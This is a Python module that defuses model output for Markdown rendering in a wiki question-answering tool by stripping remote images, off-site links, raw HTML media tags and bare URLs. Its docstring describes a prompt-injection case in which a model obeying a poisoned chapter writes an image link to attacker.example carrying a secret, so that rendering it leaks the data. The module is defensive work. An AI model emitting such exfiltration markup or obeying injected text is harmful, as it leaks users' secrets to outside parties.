"""Model output made safe to render as Markdown: no remote images, no links off the wiki.

A model that obeys a poisoned chapter can write ``![x](http://attacker.example/?q=<secret>)``;
rendered by ``st.markdown`` (or any Markdown client of the HTTP / MCP answers) the image
is fetched at once, with no click: an exfiltration channel. So every image is dropped
(its alt text kept), every link whose target leaves the wiki becomes its plain label,
reference definitions are dropped, and bare URLs are shown as code, not as links. Relative
links (a chapter path such as ``rag/chunking.md#intro``) stay: they cannot leave the site.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
_HTML_MEDIA = re.compile(
    r"<\s*(?:img|image|iframe|object|embed|video|audio|source|link|script|style)\b[^>]*>",
    re.IGNORECASE,
)
_HTML_LINK = re.compile(r"<\s*/?\s*a\b[^>]*>", re.IGNORECASE)
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)\n]*[\"'])?\s*\)")
_REF_LINK = re.compile(r"\[([^\]\n]+)\]\[[^\]\n]*\]")
_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$\n?", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.IGNORECASE)
_BARE_URL = re.compile(r"(?<![`\w/:.])((?:https?|ftp)://[^\s`<>()\[\]]+|www\.[^\s`<>()\[\]]+)")
_SCHEME = re.compile(r"^[a-z][a-z0-9+.-]*:", re.IGNORECASE)


@dataclass(frozen=True)
class Neutralized:
    text: str
    removed: tuple[str, ...]  # what was taken out, for the trace ("image http://...", ...)


def _is_wiki_target(target: str) -> bool:
    t = target.strip()
    return bool(t) and not _SCHEME.match(t) and not t.startswith(("//", "\\\\"))


def neutralize(text: str) -> Neutralized:
    """``text`` with images, off-wiki links, reference definitions and raw URLs defused."""
    removed: list[str] = []

    def image(m: re.Match[str]) -> str:
        removed.append(f"image {m.group(0)[:120]}")
        return m.group(1)

    def link(m: re.Match[str]) -> str:
        if _is_wiki_target(m.group(2)):
            return m.group(0)
        removed.append(f"link {m.group(2)[:120]}")
        return m.group(1)

    def drop(kind: str) -> Callable[[re.Match[str]], str]:
        def f(m: re.Match[str]) -> str:
            removed.append(f"{kind} {m.group(0).strip()[:120]}")
            return ""

        return f

    out = _IMAGE.sub(image, text)
    out = _HTML_MEDIA.sub(drop("html"), out)
    out = _HTML_LINK.sub(drop("html"), out)
    out = _REF_DEF.sub(drop("reference"), out)
    out = _LINK.sub(link, out)
    out = _REF_LINK.sub(lambda m: m.group(1), out)
    out = _AUTOLINK.sub(lambda m: f"`{m.group(1)}`", out)
    out = _BARE_URL.sub(lambda m: f"`{m.group(1)}`", out)
    return Neutralized(out, tuple(removed))


def safe_markdown(text: str) -> str:
    """Shortcut: the neutralized text only (for renderers)."""
    return neutralize(text).text
